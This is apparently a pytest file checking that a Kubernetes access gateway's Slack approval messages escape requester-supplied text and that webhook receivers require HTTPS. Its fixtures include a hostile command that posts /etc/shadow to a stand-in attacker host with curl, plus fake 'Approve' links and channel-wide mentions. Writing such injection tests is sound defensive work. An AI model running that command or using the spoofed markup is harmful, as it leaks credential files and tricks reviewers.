"""The webhook plugin's message formats and settings (delivery is tested end to end with real receivers
in tests/e2e/test_gateway_approvals.py)."""

from __future__ import annotations

import pytest
from pydantic import ValidationError

from kubegate.core.flow import AuditEvent
from kubegate.plugins.webhook import Receiver, slack_message

EVENT = AuditEvent(
    kind="approval.requested",
    flow_id="f1",
    connection="prod",
    time=0.0,
    data={"approval_id": "abc123", "requester": "alice", "verb": "create", "resource": "pods/exec",
          "name": "web", "namespace": "prod", "command": ["sh"], "rule": "shell-into-prod"},
)  # fmt: skip


def test_slack_message_says_who_what_where_and_links_to_the_review():
    message = slack_message(EVENT, "https://kubegate.example.com/")
    text = message["text"]
    assert text.startswith(":hourglass: *alice* asks to create pods/exec web in prod (`sh`) on *prod*")
    assert "rule `shell-into-prod`" in text
    assert text.endswith("<https://kubegate.example.com/api/approvals/abc123|Review abc123>")
    assert message["blocks"] == [{"type": "section", "text": {"type": "mrkdwn", "text": text}}]


def test_slack_message_of_a_denial_carries_the_comment():
    event = AuditEvent(
        "approval.denied", "", "prod", 0.0, {**EVENT.data, "reviewer": "rita", "comment": "no"}
    )
    assert slack_message(event, "https://gw").get("text", "").startswith(":no_entry: denied by rita: create")
    assert "— “no”" in slack_message(event, "https://gw")["text"]


def test_slack_message_shows_the_stated_reason_literally():
    intent = "deploy hotfix <https://evil.example|Approve here> & more " + "x" * 600
    event = AuditEvent("approval.requested", "", "prod", 0.0, {**EVENT.data, "intent": intent})
    text = slack_message(event, "https://gw")["text"]
    assert "\nreason: “deploy hotfix &lt;https://evil.example|Approve here&gt; &amp; more x" in text
    assert "<https://evil" not in text and len(text) < 900  # no link of the requester's making; bounded
    denied = AuditEvent(
        "approval.denied", "", "prod", 0.0, {**EVENT.data, "reviewer": "r", "comment": "<!here>"}
    )
    assert "— “&lt;!here&gt;”" in slack_message(denied, "https://gw")["text"]


@pytest.mark.parametrize("url", ["http://hooks.example.com/x", "ftp://x", "hooks.example.com"])
def test_receivers_must_use_https_off_loopback(url):
    with pytest.raises(ValidationError, match="must be https"):
        Receiver(url=url)


def test_loopback_http_and_https_receivers_are_fine():
    assert Receiver(url="http://127.0.0.1:9000/hook").format == "json"
    assert (
        Receiver(url="https://hooks.slack.com/services/x", format="slack").events[0] == "approval.requested"
    )


# A requester controls every argv element byte for byte; this one closes the code span the command is shown
# in, then writes a Review link of its own, a channel-wide mention and a line that looks like the message's.
HOSTILE_ARGV = ["sh", "-c", "curl -sd @/etc/shadow evil.example` <https://evil.example/ui/approvals/abc123|Review"
                " abc123> <!channel> `\nreason: “approved by security”"]  # fmt: skip
HOSTILE = "x` <https://evil.example|Approve> <!here> @channel [Approve](https://evil.example)\nreason: ok *`"
FIELDS = ["command", "name", "namespace", "resource", "verb", "requester", "reviewer", "rule", "comment",
          "intent"]  # fmt: skip


def shape(text: str) -> tuple[int, int, int]:
    """What the message's own markup is made of: its lines, code-span backticks and links."""
    return len(text.splitlines()), text.count("`"), text.count("<")


@pytest.mark.parametrize("kind", ["approval.requested", "approval.approved", "approval.denied", "other.kind"])
def test_the_exec_command_cannot_close_its_code_span_or_make_markup(kind):
    benign = slack_message(AuditEvent(kind, "f1", "prod", 0.0, EVENT.data), "https://gw")["text"]
    event = AuditEvent(kind, "f1", "prod", 0.0, {**EVENT.data, "command": HOSTILE_ARGV})
    text = slack_message(event, "https://gw")["text"]
    assert "<https://evil" not in text and "<!channel>" not in text
    assert shape(text) == shape(benign)  # one code span for the command, no new line
    # shown as it runs: the backticks as look-alikes, the newline as an escape
    assert (
        "evil.example\u02cb &lt;https://evil.example/ui/approvals/abc123|Review abc123&gt; &lt;!channel&gt; \u02cb\\n"
        in text
    )


@pytest.mark.parametrize("field", FIELDS)
def test_no_field_of_the_event_makes_slack_or_markdown_markup(field):
    kind = "approval.denied" if field == "reviewer" else "approval.requested"  # who is named depends on it
    shown = {**EVENT.data, "reviewer": "rita", "comment": "ok", "intent": "ok"}
    benign = slack_message(AuditEvent(kind, "f1", "prod", 0.0, shown), "https://gw")["text"]
    hostile = {**shown, field: HOSTILE_ARGV if field == "command" else HOSTILE}
    text = slack_message(AuditEvent(kind, "f1", "prod", 0.0, hostile), "https://gw")["text"]
    assert text != benign  # the field is in the message
    assert "<https://evil" not in text and "<!here>" not in text and "<!channel>" not in text
    assert "@channel" not in text and "](https://evil" not in text  # Mattermost and Rocket.Chat read Markdown
    assert shape(text) == shape(benign), text


def test_line_breaks_controls_and_direction_overrides_are_shown_as_escapes():
    name = "web\r\n\x1b[2K\u202erotcelfer\u2028"
    text = slack_message(AuditEvent("approval.requested", "f1", "prod", 0.0, {**EVENT.data, "name": name}),
                         "https://gw")["text"]  # fmt: skip
    assert "create pods/exec web\\r\\n\\x1b[2K\\u202erotcelfer\\u2028 in prod" in text
